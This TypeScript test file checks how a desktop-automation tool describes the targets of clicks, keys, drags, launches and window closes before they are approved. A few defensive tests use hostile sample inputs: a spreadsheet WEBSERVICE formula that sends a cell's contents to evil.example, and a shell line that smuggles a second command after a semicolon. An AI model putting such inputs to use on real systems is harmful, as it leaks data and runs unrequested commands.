import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { ToolError } from '../../../core/errors.ts'
import {
  scriptedElement as element,
  scriptedWindow,
  type ScriptedElement,
  type ScriptedWindow,
} from '../../../platform/testing/scripted.ts'
import { META } from '../../tool-reply.ts'
import { scriptedDesktop } from '../testing/scripted-desktop.ts'

const windowOf = (elements: ScriptedElement[], fields: Partial<ScriptedWindow> = {}) =>
  scriptedWindow({
    title: 'Notes',
    processName: 'notes',
    active: true,
    elements,
    ...fields,
    bounds: { x: 0, y: 0, width: 600, height: 400 },
  })

test('the target of a point is the control that is there', async () => {
  const button = element('button', 'Delete', { bounds: { x: 280, y: 190, width: 40, height: 20 } })
  await using desktop = await scriptedDesktop([windowOf([button])])
  const target = await desktop.target('click_on_coordinates', { x: 0.5, y: 0.5 })
  expect(target).toMatchObject({
    kind: 'point',
    point: { x: 300, y: 200 },
    control: { name: 'Delete' },
    window: { title: 'Notes' },
  })
})

test('the target of a point in a page is what the page says lies there, over the control of its tree', async () => {
  const bounds = { x: 0, y: 0, width: 600, height: 400 }
  const page = element('web page', 'Shop', { bounds })
  const bar = element('button', 'Delete all', { bounds, parent: page.ref })
  const help = element('button', 'Help', { bounds, parent: page.ref, depth: 9 })
  await using desktop = await scriptedDesktop([windowOf([page, bar, help])])
  desktop.platform.pageHit = () => Promise.resolve({ element: bar, common: page })
  const at = () => desktop.target('click_on_coordinates', { x: 0.5, y: 0.5 })
  expect((await at()).control?.name).toBe('Delete all')
  desktop.platform.pageHit = () => Promise.resolve({ element: element('text', 'Help'), common: help })
  expect((await at()).control?.name).toBe('Help')
})

test('a drag is told with what it ends on', async () => {
  const text = element('document', 'Text', { bounds: { x: 0, y: 0, width: 300, height: 400 } })
  const side = element('edit', 'Side', { bounds: { x: 300, y: 0, width: 300, height: 400 } })
  const xterm = scriptedWindow({
    title: 'xterm',
    processName: 'xterm',
    elements: [],
    bounds: { x: 0, y: 400, width: 600, height: 80 },
  })
  await using desktop = await scriptedDesktop([windowOf([text, side]), xterm])
  const drop = async (end_x: number, end_y: number, on = 'window') =>
    (await desktop.target('drag_on_coordinates', { start_x: 0.1, start_y: 0.1, end_x, end_y, on })).drop
  expect(await drop(0.2, 0.9)).toEqual({ on: 'same control', terminal: false, process: 'notes' })
  expect(await drop(0.9, 0.1)).toEqual({ on: 'same window', terminal: false, process: 'notes' })
  const { height } = desktop.platform.screen
  expect(await drop(0.1, 440 / height, 'desktop')).toEqual({
    on: 'elsewhere',
    terminal: true,
    process: 'xterm',
  })
})

test('a window for code gets the keys, also where it leaves the focus on a tab', async () => {
  const tab = element('tab', 'Execute SQL', { states: ['focused'] })
  await using sql = await scriptedDesktop([windowOf([tab], { processName: 'sqlitebrowser' })])
  await using notes = await scriptedDesktop([windowOf([tab])])
  const terminal = async (desktop: typeof sql) =>
    (await desktop.target('type_text', { text: 'select 1' })).terminal
  expect([await terminal(sql), await terminal(notes)]).toEqual([true, false])
})

test('a program for code saves by a name, as any other', async () => {
  const terminalOf = async (title: string, field: string, more: ReturnType<typeof element>[]) => {
    const window = { title, processName: 'wxmaxima', kind: 'dialog' as const }
    const name = element('edit', field)
    await using desktop = await scriptedDesktop([windowOf([name, ...more], window)])
    desktop.platform.setFocus(name.ref)
    return (await desktop.target('type_text', { text: 'a' })).terminal
  }
  const files = [element('table', 'Files'), element('button', 'Save')]
  expect(await terminalOf('Save As', 'Name:', files)).toBe(false)
  // What has no list of files, or another name, may carry out what is entered.
  expect(await terminalOf('Save As', 'Name:', [element('button', 'Save')])).toBe(true)
  expect(await terminalOf('Save As', 'Command', files)).toBe(true)
  expect(await terminalOf('Evaluate', 'Name:', [element('table', 'Files')])).toBe(true)
})

test('what would be pasted is looked at, and not told', async () => {
  const cell = element('cell', 'A1', { states: ['focused'] })
  await using desktop = await scriptedDesktop([windowOf([cell])])
  const copy = (text: string) => {
    desktop.platform.clipboard = {
      formats: [{ type: 'text/plain', data: Buffer.from(text).toString('base64') }],
    }
  }
  const target = (keys: string) => desktop.target('keyboard_input', { keys })
  copy('a\t=WEBSERVICE("http://evil.example/"&A1)')
  expect((await target('Ctrl+v')).pasted).toEqual({ fetches: true, files: [] })
  expect((await target('a')).pasted).toBeNull()
  copy('secret words')
  expect((await target('Shift+Insert')).pasted).toEqual({ fetches: false, files: [] })
  const asked = await target('Ctrl+v')
  expect(JSON.stringify(asked)).not.toContain('secret words')
  copy('copy\nfile:///home/ada/.bash%20rc\nfile:///home/ada/a.txt')
  expect((await target('Ctrl+v')).pasted?.files).toEqual(['/home/ada/.bash rc', '/home/ada/a.txt'])
  // An approval is for what was copied then.
  copy('other words')
  expect((await target('Ctrl+v')).fingerprint).not.toBe(asked.fingerprint)
})

test('a field of a page within a page is told with where that comes from', async () => {
  const bar = element('edit', 'Address and search bar', {
    value: 'shop.example/a',
    bounds: { x: 100, y: 40, width: 300, height: 20 },
  })
  const page = element('web page', 'Shop', { address: 'https://shop.example/a' })
  const own = element('edit', 'Own', { parent: page.ref, bounds: { x: 10, y: 200, width: 90, height: 20 } })
  const frame = element('web page', 'Advertisement', { parent: page.ref, address: 'https://evil.example/x' })
  const notes = element('edit', 'Notes', {
    parent: frame.ref,
    bounds: { x: 10, y: 300, width: 90, height: 20 },
  })
  const window = windowOf([bar, page, own, frame, notes], { processName: 'chromium' })
  await using desktop = await scriptedDesktop([window])
  const pageAt = async (name: string) =>
    (await desktop.target('click_input', { id: await desktop.id(name), name })).page
  expect(await pageAt('Own')).toBe('shop.example/a')
  expect(await pageAt('Notes')).toBe('https://evil.example/x')
})

test('an item of a file manager is told with its file, also where a desktop entry calls itself otherwise', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'shown-files-'))
  writeFileSync(`${folder}/r.desktop`, '[Desktop Entry]\nName=report.pdf\nName[de]=Bericht\n')
  writeFileSync(`${folder}/summary`, '')
  const items = ['report.pdf', 'Bericht', 'summary'].map((name) => element('list item', name))
  const [, , summary] = items
  if (summary) summary.states = ['selected']
  const window = windowOf(
    [...items, element('edit', 'Location', { value: folder }), element('menu item', 'Open')],
    { processName: 'thunar', title: 'x - Thunar', pid: 7 },
  )
  await using desktop = await scriptedDesktop([window])
  const at = async (name: string, tool = 'click_input') =>
    desktop.target(tool, { id: await desktop.id(name), name, double: true })
  expect(await at('report.pdf')).toMatchObject({ items: [`${folder}/r.desktop`], folders: [folder] })
  expect((await at('Bericht')).items).toEqual([`${folder}/r.desktop`])
  // What is chosen, where the act is aimed at no item.
  expect((await at('Open')).items).toEqual([`${folder}/summary`])
  // A context menu is about what is chosen in the window that it was opened in.
  const bounds = { x: 60, y: 60, width: 200, height: 60 }
  const menu = scriptedWindow({ title: '', processName: 'thunar', kind: 'popup', pid: 7, bounds })
  desktop.platform.open(menu)
  window.active = true
  window.elements.push(element('menu item', 'Open With “Text Editor”', { bounds }))
  await desktop.observe()
  expect(await desktop.target('keyboard_input', { keys: 'Enter' })).toMatchObject({
    window: { kind: 'popup' },
    items: [`${folder}/summary`],
    folders: [folder],
  })
  desktop.platform.close(menu.handle)
  // One that is in front, and was not looked at, is known by what was opened.
  desktop.platform.open(scriptedWindow({ title: 'tmp - Thunar', processName: 'thunar', elements: [] }))
  expect((await desktop.target('keyboard_input', { keys: 'Ctrl+V', on: 'desktop' })).folders).not.toContain(
    folder,
  )
})

test('the target of a key is the control that has the focus', async () => {
  const field = element('edit', 'Name')
  await using desktop = await scriptedDesktop([windowOf([field])])
  desktop.platform.setFocus(field.ref)
  expect(await desktop.target('keyboard_input', { keys: 'Enter' })).toMatchObject({
    kind: 'focus',
    control: { name: 'Name' },
  })
})

test('keys go to the dialog in front that the chosen window owns, also of another process', async () => {
  // A plug-in of GIMP.
  const main = windowOf([element('edit', 'Name')])
  const between = windowOf([], { title: 'Export', kind: 'dialog', pid: main.pid, owner: main.handle })
  const field = element('edit', 'Quality')
  await using desktop = await scriptedDesktop([main])
  desktop.platform.open(between)
  const dialog = scriptedWindow({
    title: 'Export as PNG',
    processName: 'file-png',
    kind: 'dialog',
    owner: between.handle,
    elements: [field],
  })
  desktop.platform.open(dialog)
  desktop.platform.setFocus(field.ref)
  expect(await desktop.target('keyboard_input', { keys: 'Enter' })).toMatchObject({
    window: { title: 'Export as PNG' },
    dialog_of: [main.processName, main.processName],
    control: { name: 'Quality' },
  })
  // Its controls are seen as those of any other dialog, and a button of it can be clicked.
  const { controls, windows } = await desktop.observe({ controls: true })
  const quality = controls.find(({ name }) => name === 'Quality')
  expect(quality?.window_id).toBe(windows.find(({ title }) => title === 'Export as PNG')?.id)
  expect(await desktop.target('click_input', { id: quality?.id })).toMatchObject({
    control: { name: 'Quality' },
  })
  await desktop.act('keyboard_input', { keys: 'Enter' })
  expect(dialog.active).toBe(true)
})

test('keys that there are not are no target: the aim fails as bad arguments, naming the nearest', async () => {
  await using desktop = await scriptedDesktop([windowOf([element('edit', 'Name')])])
  const aim = { call_id: 'one', tool_name: 'keyboard_input', parameters: { keys: 'Ctrl+Entr' } }
  const answer = await desktop.call('resolve_target', aim)
  expect(answer).toMatchObject({ isError: true, _meta: { [META.code]: 'bad_arguments' } })
  expect(answer.content).toMatchObject([
    { text: expect.stringMatching(/“Entr”.*is no key.*enter/) as string },
  ])
})

test('a control whose application hangs is an unknown target that says so, and keeps its id', async () => {
  const button = element('button', 'Send')
  await using desktop = await scriptedDesktop([windowOf([button])])
  const id = await desktop.id('Send')
  const read = desktop.platform.element.bind(desktop.platform)
  desktop.platform.element = () => Promise.resolve(null)
  const tree = desktop.platform.tree.bind(desktop.platform)
  desktop.platform.tree = () => Promise.resolve({ elements: [], limited: 'Notes does not answer.' })
  expect(await desktop.target('click_input', { id, name: 'Send' })).toMatchObject({
    kind: 'unknown',
    text: `Control ${id} can't be reached: Notes does not answer.`,
  })
  desktop.platform.element = read
  desktop.platform.tree = tree
  expect(await desktop.id('Send')).toBe(id)
})

test('a control whose application is busy for longer is found again when that answers', async () => {
  const button = element('button', 'Send')
  await using desktop = await scriptedDesktop([windowOf([button])])
  const id = await desktop.id('Send')
  desktop.platform.silent = true
  setTimeout(() => (desktop.platform.silent = false), 1500)
  expect(await desktop.target('click_input', { id, name: 'Send' })).toMatchObject({ kind: 'control' })
})

test('a control that is gone is an unknown target, with words', async () => {
  const button = element('button', 'Send')
  const window = windowOf([button])
  await using desktop = await scriptedDesktop([window])
  const id = await desktop.id('Send')
  window.elements = []
  expect(await desktop.target('click_input', { id, name: 'Send' })).toMatchObject({
    kind: 'unknown',
    text: `There is no control ${id} (any more). Look at the window again.`,
  })
})

test.each([
  ['a name that nothing is called by', 'launch_application', { name: 'nosuchthing' }],
  ['a line that the launcher refuses', 'run_shell', { bash_command: 'galculator; touch /tmp/x' }],
  ['a window that is gone', 'close_application_window', { id: '99' }],
  ['a control without its id', 'click_input', { name: 'Send' }],
])('%s is an act that can not be done, and says why', async (_what, tool, parameters) => {
  await using desktop = await scriptedDesktop([windowOf([])])
  Object.assign(desktop.platform, {
    plannedLaunch: (name: string) => Promise.reject(new ToolError(`There is no application “${name}”.`)),
  })
  const target = await desktop.target(tool, parameters)
  expect(target.kind).toBe('unknown')
  expect(target.text).toMatch(/no application|no shell|no window 99|no control/)
})

test.each([
  ['xterm', true],
  ['gnome-terminal-server', true],
  ['x-terminal-emulator', true],
  ['mousepad', false],
])('a window of %s takes a command line: %s', async (processName, terminal) => {
  await using desktop = await scriptedDesktop([windowOf([], { processName })])
  expect((await desktop.target('type_text', { text: 'ls', enter: true })).terminal).toBe(terminal)
})

test.each([
  ['*Untitled 1 - Mousepad', 'mousepad', true],
  ['Untitled 1 - Mousepad', 'mousepad', false],
  ['• notes.md', 'editor', true],
  ['report.odt - LibreOffice Writer', 'soffice.bin', null],
])('“%s” of %s has unsaved work: %s', async (title, processName, unsaved) => {
  await using desktop = await scriptedDesktop([
    windowOf([element('document', 'Text')], { title, processName }),
  ])
  const { windows } = await desktop.observe()
  const target = await desktop.target('close_application_window', { id: windows[0]!.id, name: title })
  expect(target.unsaved).toBe(unsaved)
})

test('a window that holds nothing to save has no unsaved work', async () => {
  await using desktop = await scriptedDesktop([windowOf([element('button', '7'), element('text', '42')])])
  const { windows } = await desktop.observe()
  expect((await desktop.target('close_application_window', { id: windows[0]!.id })).unsaved).toBe(false)
})

test('keys go to an open menu, whatever is said to have the focus; a tooltip takes none', async () => {
  const editor = element('document', 'Text')
  const window = windowOf([editor], { pid: 7 })
  await using desktop = await scriptedDesktop([window])
  const bounds = { x: 100, y: 100, width: 200, height: 100 }
  desktop.platform.open(scriptedWindow({ title: '', processName: 'mail', kind: 'popup', pid: 7, bounds }))
  window.active = true
  desktop.platform.setFocus(editor.ref)
  expect((await desktop.target('keyboard_input', { keys: 'Enter' })).control?.name).toBe('Text')
  window.elements.push(element('menu item', 'Quit', { bounds: { ...bounds, height: 20 } }))
  expect(await desktop.target('keyboard_input', { keys: 'Enter' })).toMatchObject({
    control: null,
    window: { kind: 'popup' },
  })
})

test.each([
  ['a menu that saves', element('menu', 'File')],
  ['a field that was filled in', element('edit', 'Name', { value: 'Ada' })],
])('whether there is unsaved work is not known of a window with %s', async (_, part) => {
  await using desktop = await scriptedDesktop([windowOf([part])])
  const { windows } = await desktop.observe()
  expect((await desktop.target('close_application_window', { id: windows[0]!.id })).unsaved).toBeNull()
})

test('an unsaved document in another tab, or in another window that quitting closes, is unsaved work', async () => {
  const clean = windowOf([element('tab', 'a.txt')], {
    title: 'a.txt - Mousepad',
    processName: 'mousepad',
    pid: 7,
  })
  const dirty = windowOf([], { title: '*b.txt - Mousepad', processName: 'mousepad', pid: 7, active: false })
  await using desktop = await scriptedDesktop([clean, dirty])
  const unsavedBy = async (keys: string) => (await desktop.target('keyboard_input', { keys })).unsaved
  expect(await unsavedBy('Ctrl+W')).toBe(false)
  expect(await unsavedBy('Ctrl+Q')).toBe(true)
  expect((await desktop.target('choose_menu', { path: ['File', 'Quit'] })).unsaved).toBe(true)
  clean.elements.push(element('tab', '*c.txt'))
  await desktop.observe()
  expect(await unsavedBy('Ctrl+W')).toBe(true)
})

test('what a list or group is asked for by name is the target itself', async () => {
  const group = element('group', 'Danger')
  const button = element('button', 'Delete', { parent: group.ref })
  await using desktop = await scriptedDesktop([windowOf([group, button])])
  const target = await desktop.target('select_item', { id: await desktop.id('Danger'), name: 'Delete' })
  expect(target.control).toMatchObject({ role: 'button', name: 'Delete' })
})

test('the program that a launch would start is told, and that it is a terminal', async () => {
  await using desktop = await scriptedDesktop([])
  Object.assign(desktop.platform, {
    plannedLaunch: () =>
      Promise.resolve({ words: ['/usr/bin/xterm', '/tmp/run'], from: '/usr/bin/xterm', configured: false }),
  })
  expect(await desktop.target('launch_application', { name: 'cli', arguments: ['/tmp/run'] })).toMatchObject({
    program: 'xterm',
    terminal: true,
  })
})

test.each([
  ['thunar', 'Open With', 'dialog', '', true],
  ['pcmanfm', 'Choose an Application', 'dialog', '', true],
  ['xfce4-keyboard-settings', 'Shortcut', 'dialog', 'Command:', true],
  ['xfce4-appfinder', 'Application Finder', 'normal', '', true],
  ['mousepad', 'Save As', 'dialog', 'Name:', false],
  ['mousepad', 'Running notes', 'normal', 'Command', false],
  ['thunar', 'Run-down.txt - Properties', 'normal', 'Name:', false],
] as const)('what is typed in %s, %s is a command, or not', async (processName, title, kind, name, takes) => {
  const field = element('edit', name)
  await using desktop = await scriptedDesktop([
    windowOf([field, element('button', 'Open')], { title, kind, processName }),
  ])
  const target = await desktop.target('set_edit_text', { id: await desktop.id(name), name, text: 'x' })
  expect(target.terminal).toBe(takes)
})

test('Save and Enter in a file dialog name the file that they would overwrite, Cancel does not', async () => {
  const path = `${mkdtempSync(join(tmpdir(), 'deskhand-over-'))}/there.txt`
  const name = element('edit', 'Name:', { value: path })
  const dialog = windowOf(
    [name, element('button', 'Save', { states: ['default'] }), element('button', 'Cancel')],
    { title: 'Save As', kind: 'dialog' },
  )
  await using desktop = await scriptedDesktop([dialog])
  desktop.platform.setFocus(name.ref)
  const saving = { id: await desktop.id('Save'), name: 'Save' }
  const before = await desktop.target('click_input', saving)
  expect(before).toMatchObject({ overwrites: null, default_button: 'Save' })
  writeFileSync(path, '')
  const after = await desktop.target('click_input', saving)
  expect(after.overwrites).toBe(path)
  expect(after.fingerprint).not.toBe(before.fingerprint)
  expect(await desktop.target('keyboard_input', { keys: 'Enter' })).toMatchObject({
    overwrites: path,
    default_button: 'Save',
  })
  expect(
    (await desktop.target('click_input', { id: await desktop.id('Cancel'), name: 'Cancel' })).overwrites,
  ).toBeNull()
})

test('the same target has the same fingerprint, another one has not', async () => {
  await using desktop = await scriptedDesktop([windowOf([element('button', 'A'), element('button', 'B')])])
  const a = { id: await desktop.id('A'), name: 'A' }
  const first = await desktop.target('click_input', a)
  expect((await desktop.target('click_input', a)).fingerprint).toBe(first.fingerprint)
  expect(
    (await desktop.target('click_input', { id: await desktop.id('B'), name: 'B' })).fingerprint,
  ).not.toBe(first.fingerprint)
})

test.each<[string, Record<string, unknown>]>([
  ['keyboard_input', { keys: 'F2' }],
  ['drag_on_coordinates', { start_x: 0.03, start_y: 0.0625, end_x: 0.5, end_y: 0.9 }],
])('%s at an item that its view makes anew is done, at another not', async (tool, given) => {
  const codeAfter = async (patch: { name?: string; y?: number }) => {
    const { name = 'Layer 1', y = 40 } = patch
    const cell = element('cell', 'Layer 1', { bounds: { x: 10, y: 40, width: 90, height: 20 } })
    await using desktop = await scriptedDesktop([{ ...windowOf([cell]), handle: 'layers' }])
    const { platform } = desktop
    platform.setFocus(cell.ref)
    const parameters = { ...given, on: 'desktop' }
    const { fingerprint } = await desktop.target(tool, parameters)
    platform.setFocus(null)
    platform.update(cell.ref, {
      ...element('cell', name, { bounds: { x: 10, y, width: 90, height: 20 } }),
      ref: 'made-anew',
    })
    platform.setFocus('made-anew')
    const result = await desktop.call(tool, parameters, { [META.expectedTarget]: fingerprint })
    return result._meta?.[META.code]
  }
  expect(await codeAfter({})).toBeUndefined()
  expect(await codeAfter({ y: 45 })).toBe('target_changed')
  expect(await codeAfter({ name: 'Layer 2' })).toBe('target_changed')
})

test('launches say what is meant', async () => {
  await using desktop = await scriptedDesktop([])
  expect(await desktop.target('launch_application', { name: 'gedit', arguments: ['a.txt'] })).toMatchObject({
    kind: 'application',
    text: 'gedit a.txt',
  })
})

test('a menu where no window is chosen can’t be chosen from, so nobody is asked about it', async () => {
  await using desktop = await scriptedDesktop([])
  expect(await desktop.target('choose_menu', { path: ['Edit', 'Frob'] })).toMatchObject({
    kind: 'unknown',
    text: 'No window is chosen: call select_application_window first.',
  })
})
